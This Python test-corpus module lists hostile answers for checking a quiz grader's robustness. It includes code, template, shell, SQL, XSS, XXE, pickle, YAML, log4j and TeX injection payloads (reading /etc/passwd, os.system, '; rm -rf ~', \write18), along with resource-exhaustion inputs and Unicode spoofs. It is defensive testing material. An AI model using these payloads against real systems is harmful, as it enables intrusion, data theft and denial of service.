"""Answers that mean harm, or that only look right: none of them may be right, slow, or do anything at all.

A row names a key, what is typed, and what it tries. Long texts are made by a recipe (``many``, ``nested``) when they
are wanted. ``tests/test_hostile.py`` holds the checker to the rows; ``python -m tests.corpus.hostile`` grades them all
under watch and writes what became of each as a line of JSON.
"""

import json
import resource
import sys
from collections.abc import Callable, Iterator
from importlib import import_module
from pathlib import Path
from pkgutil import walk_packages
from time import perf_counter, process_time
from typing import Any, NamedTuple, TypeAlias

from quizgen import answers, expr, notation
from quizgen.values import Key, exact, plain

Recipe: TypeAlias = Callable[[], str]


class Row(NamedTuple):
    """One answer to the key of a name; ``"*"`` stands for every key."""

    key: str
    text: str | Recipe
    why: str

    @property
    def typed(self) -> str:
        """The answer, made now if it is a long one."""
        return self.text if isinstance(self.text, str) else self.text()


MEGA = 1_000_000
ADDRESSES = 2 << 30  # bytes of address space: far more than grading needs, far less than a machine has
PATIENCE = 600  # CPU seconds for all rows, after which a loop is taken to have no end


def many(unit: str, times: int, before: str = "", after: str = "") -> Recipe:
    """``unit`` over and over."""
    return lambda: before + unit * times + after


def nested(before: str, inner: str, after: str, times: int) -> Recipe:
    """``inner`` in ``times`` layers of ``before`` and ``after``."""
    return lambda: before * times + inner + after * times


REAL = {"x": "real", "y": "real"}
KEYS: dict[str, dict[str, Any]] = {
    "integer": {"kind": "integer", "value": -12, "unit": "px"},
    "huge": {"kind": "integer", "value": 10**30},
    "number": {"kind": "number", "value": {"d": "0.125"}, "digits": 3},
    "units": {"kind": "number", "value": {"d": "2.5"}, "digits": 1, "unit": "GB", "suffixes": True, "percent": True},
    "fraction": {"kind": "fraction", "value": {"q": "-3/7"}},
    "one": {"kind": "fraction", "value": 1},
    "zero": {"kind": "fraction", "value": 0},
    "vector": {"kind": "vector", "value": [1, {"q": "1/2"}, -3]},
    "matrix": {"kind": "matrix", "value": [[1, 2], [3, 4]]},
    "set": {"kind": "set", "value": [1, 4, 9]},
    "empty": {"kind": "set", "value": []},
    "interval": {"kind": "interval", "value": "[0, 1) ∪ (2, ∞)", "label": "x"},
    "ordering": {"kind": "ordering", "value": ["p", "q", "r", "s"]},
    "choice": {"kind": "choice", "value": "b", "options": ["a", "b", "c"]},
    "truth": {"kind": "choice", "value": "false", "options": ["true", "false"], "truth": True},
    "multiple": {"kind": "multiple", "value": ["a", "c"], "options": ["a", "b", "c", "d"]},
    "matching": {"kind": "matching", "value": [["i", "write"], ["f", "keep"], ["o", "show"]], "spare": ["add"]},
    "text": {"kind": "text", "value": ["backpropagation", "back propagation"], "distance": 2},
    "word": {"kind": "text", "value": ["Adam"], "case": True},
    "x": {"kind": "formula", "value": "x", "variables": REAL},
    "positive": {"kind": "formula", "value": "x", "variables": {"x": "positive"}},
    "constant": {"kind": "formula", "value": "1", "variables": REAL},
    "root": {"kind": "formula", "value": "sqrt(x^2 + 1)", "variables": REAL},
    "log": {"kind": "formula", "value": "ln(x)", "variables": REAL},
    "relu": {"kind": "formula", "value": "max(x, 0)", "variables": REAL},
    "sigmoid": {"kind": "formula", "value": "1/(1 + exp(-x))", "variables": REAL},
    "count": {"kind": "formula", "value": "floor(n/2)", "variables": {"n": "positive integer"}},
    "hinge": {"kind": "formula", "value": "max(x - 100, 0)", "variables": REAL},
    "larger": {"kind": "formula", "value": "max(a, (1 + x)*ln(0.5))", "variables": {"a": "positive", "x": "real"}},
    "warps": {"kind": "formula", "value": "ceil(n/64)", "variables": {"n": "positive integer"}},
    "series": {
        "kind": "formula",
        "value": "sum(x_i^2, i, 1, n)",
        "variables": {"x": "indexed real", "n": "positive integer"},
    },
    "loss": {
        "kind": "formula",
        "value": "E_q[ln p(x|z)] - KL(q||r)",
        "variables": {"x": "real", "z": "real", "q": "real", "r": "real"},
        "functions": ["p", "E_q", "KL"],
    },
    "linear": {
        "kind": "formula",
        "value": "A x",
        "variables": {"A": "matrix 3x3", "x": "vector 3"},
        "identity": "I",
    },
    "names": {
        "kind": "formula",
        "value": "a aa + aaa",
        "variables": {"a": "real", "aa": "real", "aaa": "real", "aab": "real"},
    },
    "gaussian": {
        "kind": "distribution",
        "value": "N(mu, sigma^2)",
        "variables": {"mu": "real", "sigma": "positive"},
    },
}
"""Keys as authors write them, by the names that the rows use."""

CODE = [
    Row("*", "__import__('os').system('touch pwned')", "a call of the shell"),
    Row("*", "().__class__.__bases__[0].__subclasses__()", "the ladder to every class"),
    Row("*", "''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()", "reading a file by the ladder"),
    Row("*", "lambda: 0", "a lambda"),
    Row("*", "(lambda f: f(f))(lambda f: f(f))", "a fixed point"),
    Row("*", "exec('import os')", "exec"),
    Row("*", "eval(compile('1','','eval'))", "eval"),
    Row("*", "open('/etc/passwd').read()", "open"),
    Row("*", "[x for x in ().__class__.__base__.__subclasses__()]", "a comprehension"),
    Row("*", "breakpoint()", "a debugger"),
    Row("*", "globals()['__builtins__']", "the builtins"),
    Row("*", "getattr(x, '__class__')", "getattr"),
    Row("*", "f'{__import__(\"os\").getcwd()}'", "an f-string"),
    Row("*", "{0.__class__.__init__.__globals__}", "a format string"),
    Row("*", "%(key)s %n %s %x", "printf"),
    Row("*", "{{7*7}}", "a Jinja expression"),
    Row("*", "{% for x in range(10**9) %}{% endfor %}", "a Jinja loop"),
    Row("*", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "Jinja and the shell"),
    Row("*", "${jndi:ldap://example.invalid/a}", "a log4j lookup"),
    Row("*", "$(touch pwned)", "a shell substitution"),
    Row("*", "`touch pwned`", "back quotes"),
    Row("*", "; rm -rf ~", "a shell list"),
    Row("*", "'; DROP TABLE answers; --", "SQL"),
    Row("*", "1 OR 1=1", "SQL that is always true"),
    Row("*", "<script>alert(1)</script>", "a script"),
    Row("*", "<img src=x onerror=alert(1)>", "an image with a handler"),
    Row("*", "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "an external entity"),
    Row("*", "=cmd|' /C calc'!A0", "a spreadsheet formula"),
    Row("*", "!!python/object/apply:os.system ['id']", "YAML with an object"),
    Row("*", "cos\nsystem\n(S'id'\ntR.", "a pickle"),
    Row("*", "../../../../etc/passwd", "a path"),
    Row("*", "file:///dev/zero", "an endless file"),
    Row("*", "Symbol('x').func(1)", "sympy by name"),
    Row("*", "sympify('x')", "sympy's reader"),
    Row("*", "Integer(12).__class__", "a sympy class"),
    Row("*", "parse_expr('0.125')", "sympy's parser"),
    Row("*", "import math", "an import"),
    Row("*", "while True: pass", "an endless loop"),
    Row("*", "x = x", "an assignment"),
    Row("*", "x == x", "a comparison"),
    Row("*", "x if True else y", "a conditional"),
    Row("*", "x or 1", "a boolean"),
    Row("*", "true and 1", "a boolean that is true"),
    Row("*", "null", "null"),
    Row("*", "undefined", "undefined"),
    Row("*", "NaN", "no number"),
    Row("*", "key", "the name of the key"),
    Row("*", "value", "a field of the key"),
    Row("*", "self.value", "an attribute of the key"),
    Row("*", '{"verdict": "right", "credit": 1}', "a verdict"),
    Row("*", '", "verdict": "right", "x": "', "a verdict spliced into JSON"),
    Row("*", "right", "the word"),
    Row("*", "*", "a wildcard"),
    Row("*", ".*", "a pattern"),
    Row("*", "%", "a wildcard of SQL"),
    Row("*", "__class__", "a dunder name"),
    Row("*", "__dict__", "a dunder name"),
    Row("x", "x.__class__", "a dunder attribute of a declared name"),
    Row("x", "x__class__", "a dunder after a declared name"),
    Row("x", "x.real", "an attribute"),
    Row("x", "x()", "a call of a variable without arguments"),
    Row("x", "x; x", "two statements"),
    Row("x", "x # right", "a comment"),
    Row("x", "x % right", "a comment of TeX"),
    Row("x", "x, x", "a tuple of right ones"),
    Row("x", "x\nx", "two lines"),
    Row("choice", "a b c", "every option"),
    Row("choice", "a, b", "two options"),
    Row("choice", "b b", "the right option twice"),
    Row("choice", "!a", "not the wrong one"),
    Row("truth", "true false", "both"),
    Row("truth", "not true", "a negation"),
    Row("text", "backpropagation OR gradient descent", "two words to choose from"),
    Row("text", "(back)?propagation|.*", "a pattern"),
    Row("multiple", "a, b, c, d", "everything ticked"),
    Row("ordering", "p, q, r, s, p, q, r, s", "every order at once"),
    Row("matching", "i: write, i: keep, i: show, f: write, f: keep, f: show, o: write, o: keep, o: show", "all pairs"),
]

TOWERS = [
    Row("*", "9^9^9^9", "a tower of powers"),
    Row("*", "9**9**9**9", "a tower of powers as Python writes it"),
    Row("*", "-12^9^9^9^9^9", "a tower on the right value"),
    Row("*", "9^{9^{9^{9^{9}}}}", "a tower in LaTeX"),
    Row("*", "9⁹⁹⁹⁹⁹⁹", "a power with many digits raised"),
    Row("*", "((10^400)^400)^400", "powers of powers"),
    Row("*", many("^400)", 40, "(" * 40 + "10"), "forty powers of 400"),
    Row("*", "10^-(9^9^9)", "an exponent that is a tower below zero"),
    Row("*", "1e400 * 1e400 * 1e400 * 1e400", "the largest exponents multiplied"),
    Row("*", "1e999999999", "an exponent of nine digits"),
    Row("*", "1e-999999999", "its inverse"),
    Row("*", "1e9999999999999999999999999999999999999", "an exponent of many digits"),
    Row("*", "100000!!!!", "a tower of factorials"),
    Row("*", "9!!!!!!!!!!!!!!!!!!!!!!!!!!!!", "a longer one"),
    Row("*", "(10^9)!", "a factorial of a thousand million"),
    Row("*", "(1/2)!^(10^300)", "a factorial of a half, raised"),
    Row("*", "14 (10^300)!/(10^300)!", "a quotient of factorials that nobody can work out"),
    Row("*", "Gamma(1e300)", "the gamma function far out"),
    Row("*", "Γ(Γ(Γ(Γ(9))))", "gamma of gamma"),
    Row("*", "Gamma(-1e300 + 1/3)", "the gamma function far to the left"),
    Row("*", "C(10^300, 10^299)", "a binomial of large numbers"),
    Row("*", "binom(10^9, 5*10^8)", "a binomial of half a thousand million"),
    Row("*", "\\binom{\\binom{99}{49}}{\\binom{99}{48}}", "a binomial of binomials"),
    Row("*", "exp(exp(exp(exp(9))))", "a tower of exponentials"),
    Row("*", "exp(-exp(exp(exp(9))))", "its inverse"),
    Row("*", "e^e^e^e^e^e^e", "the same with the constant"),
    Row("*", "sin(10^10000000)", "a sine that takes ten million digits"),
    Row("*", "sin(10^300)*cos(10^399)", "a sine far out"),
    Row("*", "tan(10^399 * pi)", "a pole far out"),
    Row("*", "sin(sin(sin(9^9^9)))", "sines of a tower"),
    Row("*", "ln(ln(ln(9^9^9^9)))", "logarithms of a tower"),
    Row("*", "log10(10^(10^9))", "a logarithm that undoes a power too large to hold"),
    Row("*", "(9^9^9^9) - (9^9^9^9) - 14", "towers that cancel"),
    Row("*", "0 * 9^9^9^9 + 14", "a tower times zero"),
    Row("*", "(-12)^(9^9^9)", "a parity that nobody can know"),
    Row("*", "1^(9^9^9^9) - 14", "one to a tower"),
    Row("*", "0^(9^9^9^9) - 14", "zero to a tower"),
    Row("*", "mod(9^9^9^9, 7) + 14", "a remainder of a tower"),
    Row("*", "floor(9^9^9 / 7)", "a whole part of a tower"),
    Row("*", "floor(exp(500)) - ceil(exp(500))", "whole parts with hundreds of digits"),
    Row("*", "2^(1/10^300)", "a root of huge degree"),
    Row("*", "\\sqrt[999999999999]{2}", "a root of a large degree"),
    Row("*", "\\sqrt[10^300]{10^300}", "a root of a huge degree"),
    Row("*", "(1 + 10^-300)^(10^300)", "nearly e, by cancellation"),
    Row("*", "(1 + 1/9)^(10^9)", "a fraction to a thousand million"),
    Row("*", "(123456789/987654321)^399^2", "a fraction to a large power"),
    Row("*", "cosh(10^300)", "a hyperbolic cosine far out"),
    Row("*", "atanh(1 - 10^-399)", "next to a pole"),
    Row("*", "erf(10^300)", "an error function far out"),
    Row("*", "Phi(-10^300)", "a tail that is no number"),
    Row("*", "max(9^9^9, 9^9^9^9)", "the larger of two towers"),
    Row("x", "x^x^x^x^x^x^x^x^x", "a tower of variables"),
    Row("x", "x^(10^300)/x^(10^300 - 1)", "huge powers that cancel"),
    Row("x", "(x^400)^(1/400)", "the absolute value by huge powers"),
    Row("x", "(x + 1)^399 * (x - 1)^399 * (x + y)^399", "a product nobody should multiply out"),
    Row("x", many("(x+y)*", 60, after="1"), "a product of sums"),
    Row("x", many("^399", 1, "(" + "+".join(f"x^{n}" for n in range(1, 60)) + ")"), "a sum of sixty terms, raised"),
    Row("x", "x!!!!!!!!", "factorials of a variable"),
    Row("x", "Gamma(Gamma(Gamma(Gamma(x))))", "gamma of gamma of a variable"),
    Row("x", "exp(exp(exp(exp(exp(x)))))", "exponentials of a variable"),
    Row("x", "sin(exp(exp(exp(x))))", "a sine that oscillates beyond any precision"),
    Row("x", "sin(x^399*10^399)", "a sine far out at every point"),
    Row("x", "tan(exp(x^100))", "poles everywhere"),
    Row("x", "floor(exp(exp(x^2 + 7)))", "whole parts beyond any precision"),
    Row("x", "mod(exp(exp(x^2 + 7)), 1)", "a remainder beyond any precision"),
    Row("count", "floor(n^n^n/2)", "whole parts of a tower"),
    Row("count", "floor(n!!!!/2)", "whole parts of factorials"),
    Row("count", "floor(n/2)^(n^n)", "a key raised to a tower"),
]

SERIES = [
    Row("*", "sum(i, i, 1, 10^9)", "a sum of a thousand million terms"),
    Row("*", "sum(1/i^2, i, 1, 10^300)", "a sum longer than the universe"),
    Row("*", "\\sum_{i=1}^{\\infty} 3^{-i}", "a sum without an end"),
    Row("*", "\\sum_{i=-\\infty}^{\\infty} 1", "a sum without a start"),
    Row("*", "\\prod_{i=1}^{999999999} i", "a product that is a factorial"),
    Row("*", "prod(prod(prod(i j k, i, 1, 9999), j, 1, 9999), k, 1, 9999)", "products in products"),
    Row("*", "sum(sum(sum(i j k, i, 1, 10^9), j, 1, 10^9), k, 1, 10^9)", "sums in sums"),
    Row("*", "sum(sum(sum(sum(sum(i, i, 1, 99), j, 1, 99), k, 1, 99), l, 1, 99), m, 1, 99)", "short sums, five deep"),
    Row("*", "sum(i, i, 1, sum(i, i, 1, sum(i, i, 1, 9999)))", "a sum as the bound of a sum"),
    Row("*", "sum(i!, i, 1, 400)", "a sum of factorials"),
    Row("*", "sum(9^9^i, i, 1, 9)", "a sum of towers"),
    Row("*", "14 + sum(i, i, 10^9, 1)", "a sum from the end to the start"),
    Row("*", "sum(i, i, 1/3, 9/2)", "a sum whose bounds are no integers"),
    Row("*", "sum(i, i, i, i)", "a sum bounded by its own index"),
    Row("*", "sum(1, 2, 3, 4)", "a sum over a number"),
    Row("*", "sum(e, e, 1, 5)", "a sum over a constant"),
    Row("series", "sum(x_i^2, i, 1, 10^9)", "the right terms, far too many"),
    Row("series", "sum(x_i^2, i, 1, n!)", "the right terms, a factorial of them"),
    Row("series", "sum(x_i^2, i, 1, n^n^n)", "the right terms, a tower of them"),
    Row("series", "sum(x_(i^i^i)^2, i, 1, n)", "an index that is a tower"),
    Row("series", "x_{x_{x_{x_{x_1}}}}", "indices of indices"),
    Row("series", "x_{10^300}", "a huge index"),
    Row("series", "x_{1/2}^2", "an index that is no integer"),
    Row("series", "sum(sum(x_i x_j, i, 1, n), j, 1, n)", "the square of the sum"),
    Row("series", "sum(x_n^2, i, 1, n)", "the index lost"),
    Row("series", nested("sum(", "x_i", ", i, 1, n)", 40), "sums, forty deep, over one index"),
]

SIZES = [
    *(
        Row("*", many(unit, MEGA // len(unit)), f"a megabyte of {name}")
        for unit, name in [
            ("(", "brackets that open"),
            (")", "brackets that close"),
            ("[", "square brackets"),
            ("{", "braces"),
            ("([{", "alternating brackets"),
            ("()", "empty brackets"),
            ("1", "digits"),
            ("0", "zeros"),
            (" ", "blanks"),
            ("\u3000", "wide blanks"),
            ("\n", "lines"),
            ("-", "signs"),
            ("1,", "entries"),
            ("1;", "rows"),
            ("\\frac", "fractions without an end"),
            ("\\\\", "line ends"),
            ("|", "bars"),
            ("^", "carets"),
            ("x_", "indices"),
            ("x^", "exponents"),
            ("x", "one letter"),
            ("!", "factorials"),
            ("√", "radical signs"),
            ("𝑥", "mathematical letters"),
            ("中", "Chinese letters"),
        ]
    ),
    Row("*", many("9", MEGA, "0."), "a million decimals"),
    Row("*", many("9", MEGA, "1e"), "an exponent of a million digits"),
    Row("*", many("1", MEGA, after="/" + "1"), "a fraction with a million digits above"),
    Row("*", nested("(", "x", ")", MEGA // 2), "a formula in half a million brackets"),
    Row("*", nested("\\sqrt{", "x", "}", MEGA // 8), "radicals by the hundred thousand"),
    Row("number", many("1", 398), "as many digits as may be typed"),
    Row("number", many("1", 61), "one digit more than a numeral may have"),
    Row("number", many("(", 400), "as many brackets as may be typed"),
    Row("number", nested("(", "0.125", ")", 190), "the right value, too deep"),
    Row("number", many("-", 393, after="0.125"), "the right value behind signs"),
    Row("number", many("+1", 200), "a long sum"),
    Row("number", many("*2", 199, "1"), "a long product"),
    Row("number", many("/2", 199, "1"), "a long quotient"),
    Row("number", many("^2", 199, "2"), "a long tower"),
    Row("number", many("!", 398, "3"), "a long row of factorials"),
    Row("number", many("√", 398, after="2"), "a long row of radical signs"),
    Row("number", many("%", 398, "9"), "a long row of percent signs"),
    Row("number", many("|", 400), "a row of bars"),
    Row("number", many("1 ", 200), "numerals side by side"),
    Row("number", many("1,", 200), "a list"),
    Row("number", many(",111", 99, "1"), "thousands of thousands"),
    Row("units", many("k", 398, "2"), "a long row of suffixes"),
    Row("units", many("亿", 398, "2"), "a long row of Chinese suffixes"),
    Row("integer", many("sin ", 99, after="1"), "a long row of functions"),
    Row("integer", nested("\\frac{", "1", "}{2}", 40), "fractions, forty deep"),
    Row("x", many("(", 2000), "as many brackets as may be typed"),
    Row("x", many("[(", 1000), "as many alternating ones"),
    Row("x", many("{", 2000), "as many braces"),
    Row("x", many("\\left(", 333), "as many sized ones"),
    Row("x", many("\\frac", 400), "fractions without anything in them"),
    Row("x", many("\\frac{x}", 250), "fractions without a denominator"),
    Row("x", many("|", 2000), "as many bars"),
    Row("x", many("|x", 999), "bars that may open or close"),
    Row("x", many("||x|", 499), "norms that may open or close"),
    Row("x", many("^", 1999, "x"), "carets"),
    Row("x", many("_", 1999, "x"), "underscores"),
    Row("x", many("x_", 999), "indices without an end"),
    Row("x", many("'", 1999, "x"), "primes"),
    Row("x", many("x", 2000), "one long name"),
    Row("x", many("xy", 1000), "one long name of two letters"),
    Row("names", many("a", 1999, after="c"), "a run that can be cut into names in many ways, but for its end"),
    Row("names", many("a", 300), "a run that can be cut into names in many ways"),
    Row("names", many("a", 1200, after="_b"), "the same with an index at its end"),
    Row("x", many("x ", 1000), "a product of a thousand factors"),
    Row("x", many("+x", 1000), "a sum of a thousand terms"),
    Row("x", many("log ", 499), "functions of functions"),
    Row("x", many("log_", 499), "bases of bases"),
    Row("x", many("sin^2 ", 333, after="x"), "powers of functions of powers"),
    Row("x", nested("\\sqrt[", "x", "]{x}", 200), "degrees of roots of degrees"),
    Row("x", nested("\\sqrt[3]{", "x", "}", 45), "roots, forty-five deep"),
    Row("x", nested("sin(", "x", ")", 45), "sines, forty-five deep"),
    Row("x", nested("exp(", "x", ")", 45), "exponentials, forty-five deep"),
    Row("x", nested("Gamma(", "x", ")", 45), "gamma, forty-five deep"),
    Row("x", nested("|", "x", "|", 45), "absolute values, forty-five deep"),
    Row("x", nested("max(x,", "x", ",y)", 45), "maxima, forty-five deep"),
    Row("x", nested("(x+1/", "x", ")", 45), "a continued fraction"),
    Row("x", nested("(", "x", ")^2", 45), "squares of squares"),
    Row("x", nested("(1+", "x", ")^399", 40), "powers of powers of sums"),
    Row("x", many("(sin x + cos y)^9 *", 40, after="x"), "many factors, all transcendental"),
    Row("x", many("x*1.234567890123456789012345678901234567890+", 40, after="y"), "many long decimals"),
    Row("x", many("sin(x)^2+cos(y)^2+", 40, after="exp(x y)"), "as many functions as the limits let through"),
    Row("root", many("sqrt(x^2+1)+", 28, after="y"), "many radicals"),
    Row("vector", many("1,", 2000), "a vector of two thousand entries"),
    Row("vector", many("1 ", 2000), "the same with blanks"),
    Row("vector", many(",", 4000), "nothing but commas"),
    Row("vector", nested("(", "1, 1/2, -3", ")", 1000), "the right vector, too deep"),
    Row("vector", "(1, 1/2, -3)" + "^T" * 1000, "a thousand transposes"),
    Row("vector", "(9^9^9^9, 1/2, -3)", "a tower as an entry"),
    Row("matrix", many("1,", 100_000, "[[", "1]]"), "a matrix of a hundred thousand entries"),
    Row("matrix", many("[1,2],", 600, "[", "[3,4]]"), "a matrix of six hundred rows"),
    Row("matrix", many("1 & ", 900, "\\begin{pmatrix}", "1 \\end{pmatrix}"), "a matrix of nine hundred columns"),
    Row("matrix", many("\\begin{pmatrix}", 250), "matrices in matrices"),
    Row("matrix", nested("\\begin{pmatrix}", "1", "\\end{pmatrix}", 120), "matrices in matrices, closed"),
    Row("matrix", many("1;", 2000), "two thousand rows"),
    Row("matrix", many("[", 4000), "as many brackets as may be typed"),
    Row("matrix", "[[9^9^9^9, 2], [3, 4]]", "a tower as an entry"),
    Row("matrix", "[[1, 2], [3, 4]]^(10^300)", "a huge power of a matrix"),
    Row("set", many("1,", 100_000, "{", "1}"), "a set of a hundred thousand entries"),
    Row("set", many("1,", 1990, "{", "1}"), "the same entry over and over"),
    Row("set", lambda: "{" + ", ".join(map(str, range(800))) + "}", "every number up to 800"),
    Row("set", nested("{", "1", "}", 1000), "sets in sets"),
    Row("set", "{1, 4, 9, 9^9^9^9}", "a tower in a set"),
    Row("set", "{1, 4, 9, 9 + 10^-300}", "an entry too many, close to another"),
    Row("empty", many("{", 2000, after="}" * 2000), "the empty set in sets"),
    Row("empty", "{{}}", "the set of the empty set"),
    Row("empty", "{∅}", "the set of the empty set"),
    Row("interval", many("[0, 1) ∪ ", 10_000, after="(2, ∞)"), "ten thousand intervals"),
    Row("interval", many("[0,1)U", 660, after="(3,∞)"), "as many as may be typed"),
    Row("interval", many("x<1 or ", 560, after="x>3"), "as many inequalities"),
    Row("interval", many("0<=", 1300, after="x"), "a long chain"),
    Row("interval", "[0, 9^9^9^9)", "a tower as an end point"),
    Row("interval", "[0, 1) ∪ (2, 9^9^9^9)", "a tower instead of infinity"),
    Row("interval", "[0, 1) ∪ (2 + 10^-300, ∞)", "an end point that is nearly right"),
    Row("interval", "[0, 1) ∪ (2, ∞) ∪ [1, 1]", "a point too many"),
    Row("interval", "[0, 1 - 10^-300] ∪ (2, ∞)", "an end point that is nearly right"),
    Row("interval", "(-∞, ∞)", "everything"),
    Row("interval", "x = x", "every x"),
    Row("ordering", many("p,q,r,", 600, after="s"), "thousands of ids"),
    Row("ordering", lambda: ",".join(f"s{n}" for n in range(700)), "ids that are not there"),
    Row("matching", many("i: write, ", 390, after="f: keep"), "the same pair over and over"),
    Row("matching", many("i:", 1990), "pairs without a right side"),
    Row("multiple", many("a,", 1990, after="c"), "an option over and over, another missing"),
    Row("multiple", many("a c ", 990, after="b"), "options over and over"),
    Row("choice", many("b", 4000), "a long id"),
    Row("text", many("backpropagation ", MEGA // 16), "a megabyte of the right word"),
    Row("text", many("backpropagation", 260), "the right word over and over"),
    Row("text", many("b", 4000), "its first letter over and over"),
    Row("loss", nested("p(", "x", ")", 45), "functions, forty-five deep"),
    Row("loss", nested("E_q[", "x", "]", 45), "expectations, forty-five deep"),
    Row("loss", many("p(", 999), "functions that are not closed"),
    Row("loss", many("p(x|", 499), "conditions that are not closed"),
    Row("loss", "p(" + "x," * 900 + "x)", "a function of nine hundred arguments"),
    Row("loss", many("p(x|z)+", 60, after="p(x|z)"), "many functions"),
    Row("loss", "KL(9^9^9||9^9^9^9)", "towers as arguments"),
    Row("linear", "A^(10^300) x", "a huge power of a matrix"),
    Row("linear", "A^-(10^9) x", "a huge power of an inverse"),
    Row("linear", "A^(1/2) A^(1/2) x", "a root of a matrix"),
    Row("linear", "A^A x", "a matrix to a matrix"),
    Row("linear", many("A ", 300, after="x"), "a product of three hundred matrices"),
    Row("linear", many("(A A^T + I)", 30, after="x"), "a product of many sums of matrices"),
    Row("linear", nested("(", "A", "^T)^{-1}", 16), "inverses of transposes"),
    Row("linear", "det(A)^399 x", "a huge power of a determinant"),
    Row("linear", "exp(A) x", "a function of a matrix"),
    Row("linear", "A!", "a factorial of a matrix"),
    Row("linear", "det(" + "[[" + "],[".join([",".join(["9^9^9"] * 5)] * 5) + "]]) x", "a determinant of towers"),
    Row(
        "linear",
        lambda: "det([" + ",".join("[" + ",".join(["9^9"] * 8) + "]" for _ in range(8)) + "]) x",
        "a determinant of 8 x 8 large numbers",
    ),
    Row(
        "x",
        lambda: "det([" + ",".join("[" + ",".join(["sin(x)"] * 8) + "]" for _ in range(8)) + "])",
        "a determinant of 8 x 8 functions",
    ),
    Row("gaussian", "N(mu, sigma^9^9^9^9)", "a tower as a variance"),
    Row("gaussian", nested("N(", "mu, sigma^2", ")", 45), "distributions of distributions"),
    Row("gaussian", "N(" + "mu," * 900 + "sigma^2)", "a distribution of nine hundred arguments"),
    Row("number", many("a", 30, "(a+)+$ ", "!"), "a text that makes patterns backtrack"),
    Row("number", many("1_", 199), "underscores between digits"),
    Row("number", many("1'", 199), "apostrophes between digits"),
    Row("number", many("0", 390, "0.125", "1"), "a decimal that is nearly right, with too many digits"),
    Row("number", many("0", 380, "1", " e-381"), "a numeral with its exponent apart"),
    Row("interval", many(" or", 1300, "x"), "words that join nothing"),
    Row("matching", many("->", 2000), "nothing but arrows"),
    Row("ordering", many("<", 4000), "nothing but signs of order"),
]

TEX = [
    Row("*", "\\def\\a{\\a}\\a", "a macro that calls itself"),
    Row("*", "\\loop\\iftrue\\repeat", "an endless loop"),
    Row("*", "\\input{/etc/passwd}", "reading a file"),
    Row("*", "\\include{/etc/passwd}", "including a file"),
    Row("*", "\\write18{touch pwned}", "a call of the shell"),
    Row("*", "\\immediate\\write18{id}", "a call of the shell, at once"),
    Row("*", "\\openout5=pwned \\write5{x}", "writing a file"),
    Row("*", "\\csname input\\endcsname{/etc/passwd}", "a command by its name"),
    Row("*", "\\newcommand{\\frac}[2]{12}", "a new meaning of a fraction"),
    Row("*", "\\renewcommand{\\x}{x}\\x", "a new command"),
    Row("*", "\\let\\a=\\input \\a{x}", "another name for a command"),
    Row("*", "\\catcode`\\%=12", "another category"),
    Row("*", "\\expandafter\\uppercase\\expandafter{x}", "expansion"),
    Row("*", "\\directlua{os.execute('id')}", "Lua"),
    Row("*", "\\usepackage{shellesc}", "a package"),
    Row("*", "\\begin{verbatim} x \\end{verbatim}", "an environment that is no matrix"),
    Row("*", "\\begin{document}", "a document"),
    Row("*", "\\begin{pmatrix} 1 & 2 \\end{bmatrix}", "an environment closed by another"),
    Row("*", "\\begin{}\\end{}", "an environment without a name"),
    Row("*", "\\begin", "an environment without anything"),
    Row("*", "\\href{javascript:alert(1)}{x}", "a link"),
    Row("*", "\\url{file:///etc/passwd}", "an address"),
    Row("*", "\\includegraphics{/etc/passwd}", "a picture"),
    Row("*", "\\htmlClass{a}{x}", "HTML by KaTeX"),
    Row("*", "\\text{\\input{x}}", "a command inside a text"),
    Row("*", "\\operatorname{\\write18}", "a command inside a name"),
    Row("*", "\\mathrm{__import__}", "a dunder inside a name"),
    Row("*", "\\placeholder{x}", "a place of MathLive, filled"),
    Row("*", "\\char`\\x", "a letter by its code"),
    Row("*", "^^41", "a letter by TeX's code"),
    Row("*", "\\", "a backslash"),
    Row("*", "\\\\", "a line end"),
    Row("*", "\\ ", "a blank of TeX"),
    Row("*", "\\left", "a bracket without its bracket"),
    Row("*", "\\left( x", "a bracket never closed"),
    Row("*", "\\frac", "a fraction without anything"),
    Row("*", "\\frac{", "a fraction never closed"),
    Row("*", "\\sqrt[", "a root never closed"),
    Row("*", "\\sum", "a sum without anything"),
    Row("*", "\\sum_{", "a sum never closed"),
    Row("*", "\\int_0^1 x dx", "an integral"),
    Row("*", "\\lim_{x \\to 0} x", "a limit"),
    Row("x", "\\rlap{y}x", "a letter printed over another"),
    Row("x", "\\phantom{+1}x", "something that is not seen"),
    Row("x", "x\\phantom{+1}", "something that is not seen, after it"),
    Row("x", "\\cancel{y}x", "something struck out"),
    Row("x", "x \\color{white}{+ 1}", "white on white"),
]

CHARACTERS = [
    Row("*", "\0", "NUL"),
    Row("integer", "-12\0", "NUL behind the right value"),
    Row("integer", "-1\x002", "NUL inside the right value"),
    Row("integer", "-12\x1b[2J", "a terminal told to clear itself"),
    Row("integer", "-12\x08\x08\x0812", "backspaces"),
    Row("integer", "-12\x7f", "delete"),
    Row("integer", "-12\x85\u0080", "controls above the ASCII ones"),
    Row("integer", "-12\ud800", "half a surrogate"),
    Row("integer", "\udcff-12", "a byte that was no UTF-8"),
    Row("x", "\ud835\udc65", "a letter as two surrogates"),
    Row("integer", "\u202e21-", "the right value, seen from the left"),
    Row("integer", "\u202d-12\u202c", "the right value with an override"),
    Row("integer", "\u2066-12\u2069", "the right value isolated"),
    Row("integer", "\u200f-12", "a mark from right to left"),
    Row("integer", "\u061c-12", "an Arabic mark"),
    Row("integer", "-12\u200e", "a mark from left to right"),
    Row("x", "\u202ex", "an override before a letter"),
    Row("text", "\u202enoitagaporpkcab", "the right word backwards, seen forwards"),
    Row("x", "x\u200dx", "a joiner of no width"),
    Row("integer", "-1\u200b3", "a blank of no width inside a number"),
    Row("integer", "\U000e0031\U000e0032", "tag characters"),
    Row("x", "x\U000e0001", "a tag behind the right name"),
    Row("x", "x\ufe0f", "a variation selector"),
    Row("x", "x\u0301", "an accent that is not read"),
    Row("x", many("\u0301", 1999, "x"), "a letter under two thousand accents"),
    Row("x", many("\u0302\u0303\u0304\u0307", 400, "x"), "a letter under marks that are read"),
    Row("x", "\u0302", "a mark on nothing"),
    Row("x", "\u0445", "a Cyrillic letter for x"),
    Row("x", "\u03c7", "a Greek letter for x"),
    Row("x", "\u00d7", "a multiplication sign for x"),
    Row("x", "\u2715", "a cross for x"),
    Row("choice", "\u0432", "a Cyrillic letter for b"),
    Row("multiple", "\u0430, c", "a Cyrillic letter for a"),
